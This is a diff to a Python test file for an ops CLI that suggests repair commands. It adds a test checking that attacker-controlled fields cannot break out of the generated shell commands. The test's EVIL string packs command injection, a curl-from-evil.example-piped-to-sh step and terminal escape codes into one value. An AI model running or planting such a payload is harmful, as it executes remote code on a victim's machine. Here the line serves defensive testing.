@@ -6,7 +6,7 @@ import pytest
 from typer.testing import CliRunner
 
 from ops.cli.main import app
-from ops.triage.repairs import OTHERWISE, STEPS, Common, steps_for
+from ops.triage.repairs import OTHERWISE, STEPS, Common, log_command, steps_for
 from shared.causes import Cause, Family
 
 COMMON = Common(group_hash="ab" * 16, provider="openai", model="gpt-5", guild_id=7)
@@ -47,3 +47,20 @@ def test_a_cause_of_another_version_is_looked_at():
     assert [step.command for step in steps_for("newer_cause", COMMON)] == [
         *("turnfleet errors list --cause abababababab", "turnfleet doctor")
     ]
+
+
+EVIL = "x'; curl evil.example | sh #`id`$(id)\n\x1b[2J"
+
+
+@pytest.mark.parametrize("cause", [*Cause, EVIL])
+def test_a_fact_of_an_attacker_is_one_word_of_a_command(cause: str):
+    evil = Common(group_hash=EVIL, provider=EVIL, model=EVIL, key_id=EVIL)
+    commands = [step.command for step in steps_for(cause, evil, EVIL) if step.command]
+    for command in (*commands, log_command("id", EVIL)):
+        assert "\x1b" not in command
+        parts = list(shlex.shlex(command, posix=True, punctuation_chars=True))
+        assert not {"|", ";", "#"} & set(parts)
+
+
+def test_the_command_for_a_log_is_valid_jq():
+    assert log_command("turn_id", "m7") == "jq -c 'select(.turn_id == \"m7\")' LOG"
